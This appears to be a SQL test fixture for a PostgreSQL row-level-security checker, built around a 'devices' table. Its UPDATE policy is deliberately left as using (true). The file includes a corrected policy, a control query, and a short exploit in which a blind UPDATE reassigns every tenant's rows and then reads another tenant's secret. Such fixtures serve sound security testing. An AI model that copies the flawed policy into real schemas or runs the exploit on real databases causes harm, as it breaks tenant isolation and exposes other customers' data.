-- What: SELECT is strict, UPDATE only checks the new row. `… WHERE tenant_id = B` finds nothing, since WHERE applies the SELECT policy.
-- Class: policy_always_true|policy_write_unchecked
-- Object: public.devices
-- Exploit: A blind UPDATE takes every tenant's rows over; then they are readable.
-- A: 1
-- B: 2
-- @schema
create table devices (id bigint generated always as identity primary key, tenant_id int not null, serial text not null);
alter table devices enable row level security;
alter table devices force row level security;
create policy r on devices for select using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::int);
create policy c on devices for insert with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::int);
create policy u on devices for update using (true) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::int);
create policy d on devices for delete using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::int);
grant select, insert, update, delete on devices to app_user;
-- @rows
insert into devices (tenant_id, serial) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter policy u on devices using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::int);
-- @control
select from devices where tenant_id = :'A';
-- @exploit
update devices set tenant_id = :'A';
select serial from devices where serial = 'B-secret';
